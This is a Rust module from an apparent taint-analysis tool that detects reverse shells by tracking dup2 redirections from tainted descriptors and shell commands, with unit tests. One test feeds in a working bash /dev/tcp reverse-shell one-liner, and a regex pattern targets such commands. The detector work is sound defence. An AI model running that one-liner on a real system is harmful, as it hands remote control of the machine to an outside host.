//! Reverse-shell heuristic.
//!
//! Descriptor redirections (`os.dup2(fd, fd2)`) from a tainted descriptor are
//! counted across the run. When a command sink later runs something that
//! looks like a shell, the accumulated redirections decide the verdict.

use super::{command_texts, CallSite, DetectCx, Detector, Verdict};
use crate::args::CallArguments;
use taintwatch_core::tagged::{is_kind, TagKind};
use taintwatch_core::values::Value;
use tracing::debug;

pub const REVERSE_SHELL: &str = "Reverse shell";

const DUP2_PARAMS: [&str; 3] = ["fd", "fd2", "inheritable"];
const SHELL_PATTERN: &str = "sh";
const TCP_SHELL_PATTERN: &str = "sh.*/dev/tcp/.*";

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ReverseShellState {
    /// Descriptor 0 was redirected from a tainted descriptor.
    pub fd0: bool,
    pub fd1: bool,
    /// Redirections whose target descriptor was itself tainted.
    pub tainted_redirects: u32,
    /// A command sink ran something containing `sh`.
    pub shell: bool,
    /// A command sink ran a `/dev/tcp` shell.
    pub hard: bool,
}

pub fn reverse_shell_verdict(state: &ReverseShellState) -> bool {
    let redirected = match state.tainted_redirects {
        0 => state.fd0 && state.fd1,
        1 => state.fd0 || state.fd1,
        _ => true,
    };
    (state.shell && redirected) || state.hard
}

#[derive(Debug, Default)]
pub struct ReverseShellDetector {
    state: ReverseShellState,
}

impl ReverseShellDetector {
    pub fn state(&self) -> &ReverseShellState {
        &self.state
    }

    fn observe_dup2(&mut self, args: &CallArguments<'_>) {
        if !(2..=3).contains(&args.len()) {
            return;
        }
        let Some(bound) = args.bind(&DUP2_PARAMS) else {
            return;
        };
        let (Some(fd), Some(fd2)) = (bound[0], bound[1]) else {
            return;
        };
        if !is_kind(fd, TagKind::Taint) {
            return;
        }
        match fd2 {
            v if is_kind(v, TagKind::Taint) => self.state.tainted_redirects += 1,
            Value::Int(0) => self.state.fd0 = true,
            Value::Int(1) => self.state.fd1 = true,
            _ => {}
        }
        debug!(state = ?self.state, "descriptor redirection observed");
    }
}

impl Detector for ReverseShellDetector {
    fn id(&self) -> &'static str {
        "reverse-shell"
    }

    fn inspect(&mut self, site: &CallSite<'_>, cx: &mut DetectCx<'_>) -> Option<Verdict> {
        let record = site.record;
        if record.module.as_deref() == Some("os") && record.func.as_deref() == Some("dup2") {
            self.observe_dup2(site.args);
            return None;
        }
        if record.hook != Some(TagKind::Threat) || !record.is_command_sink() {
            return None;
        }
        for text in command_texts(site.args.flattened()) {
            if cx.search.search(SHELL_PATTERN, &text) {
                self.state.shell = true;
            }
            if cx.search.search(TCP_SHELL_PATTERN, &text) {
                self.state.hard = true;
            }
        }
        reverse_shell_verdict(&self.state).then(|| Verdict::new(self.id(), REVERSE_SHELL, record.line))
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use super::*;
    use taintwatch_core::tagged::ThreatKind;

    fn state(shell: bool, fd0: bool, fd1: bool, count: u32) -> ReverseShellState {
        ReverseShellState { fd0, fd1, tainted_redirects: count, shell, hard: false }
    }

    #[test]
    fn test_truth_table() {
        assert!(reverse_shell_verdict(&state(true, true, true, 0)));
        assert!(!reverse_shell_verdict(&state(true, true, false, 0)));
        assert!(!reverse_shell_verdict(&state(true, false, false, 1)));
        assert!(reverse_shell_verdict(&state(true, false, true, 1)));
        assert!(reverse_shell_verdict(&state(true, false, false, 2)));
        assert!(!reverse_shell_verdict(&state(false, true, true, 3)));
        let hard = ReverseShellState { hard: true, ..ReverseShellState::default() };
        assert!(reverse_shell_verdict(&hard));
    }

    #[test]
    fn test_dup2_from_taint_then_shell_is_reported() {
        let mut detector = ReverseShellDetector::default();
        let dup2 = record_for(descriptor(TagKind::Custom, "os", "dup2", None));
        assert!(inspect(&mut detector, &dup2, &[taint(), Value::Int(0)]).is_none());
        assert!(inspect(&mut detector, &dup2, &[taint(), Value::Int(1)]).is_none());
        assert!(inspect(&mut detector, &dup2, &[Value::Int(5), Value::Int(2)]).is_none());
        assert_eq!(detector.state(), &state(false, true, true, 0));

        let call = record_for(descriptor(TagKind::Threat, "subprocess", "call", Some(ThreatKind::CommandExec)));
        let args = [Value::list(vec![Value::str("/bin/sh"), Value::str("-i")])];
        let verdict = inspect(&mut detector, &call, &args).expect("reverse shell");
        assert_eq!(verdict.description, REVERSE_SHELL);
    }

    #[test]
    fn test_dev_tcp_command_alone_is_reported() {
        let mut detector = ReverseShellDetector::default();
        let call = record_for(descriptor(TagKind::Threat, "os", "system", Some(ThreatKind::CommandExec)));
        let args = [Value::str("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1")];
        assert!(inspect(&mut detector, &call, &args).is_some());
    }

    #[test]
    fn test_shell_without_redirection_is_not_reported() {
        let mut detector = ReverseShellDetector::default();
        let call = record_for(descriptor(TagKind::Threat, "os", "system", Some(ThreatKind::CommandExec)));
        assert!(inspect(&mut detector, &call, &[Value::str("sh -c ls")]).is_none());
        assert!(detector.state().shell);
    }

    #[test]
    fn test_dup2_with_wrong_arity_is_ignored() {
        let mut detector = ReverseShellDetector::default();
        let dup2 = record_for(descriptor(TagKind::Custom, "os", "dup2", None));
        inspect(&mut detector, &dup2, &[taint()]);
        inspect(&mut detector, &dup2, &[taint(), Value::Int(0), Value::Bool(true), Value::Int(9)]);
        assert_eq!(detector.state(), &ReverseShellState::default());
    }
}
